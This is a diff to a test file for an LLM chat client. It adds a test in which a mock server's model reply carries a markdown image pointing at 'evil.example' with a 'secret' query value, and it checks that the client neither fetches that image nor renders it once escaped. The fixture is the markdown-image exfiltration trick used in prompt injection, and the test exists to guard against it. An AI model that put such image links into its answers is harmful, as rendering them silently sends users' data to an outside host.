@@ -4,6 +4,7 @@ import { describe, expect, onTestFinished, test } from "vitest";
 
 import { createClient } from "../../src/client/client.ts";
 import type { InhouseError } from "../../src/core/error.ts";
+import { safeMarkdown } from "../../src/core/safe-markdown.ts";
 import { createTransport } from "../../src/http/undici-transport.ts";
 import { failureOf, loopback, rawServer, thrownBy } from "../support/loopback.ts";
 import { runChild } from "../support/run-child.ts";
@@ -56,6 +57,12 @@ test("row 110, an address in a message is not fetched", async () => {
   const { text } = await clientOf(server.origin).chat({ messages: `See ${target.origin}/y.png` });
   expect(text).toContain(target.origin);
   expect(target.connections()).toBe(0);
+});
+
+test("row 91, an image in an answer is fetched neither here nor, once it was made safe, by who shows it", async () => {
+  const server = await loopback(({ socket }) => socket.write(reply(chatReply("![](https://evil.example/?q=secret)"))));
+  const { text } = await clientOf(server.origin).chat({ messages: "Hi" });
+  expect(safeMarkdown(text)).toBe("!&#91;&#93;(https://evil.example/?q=secret)");
 });
 
 describe.each(Object.entries(dialects))(
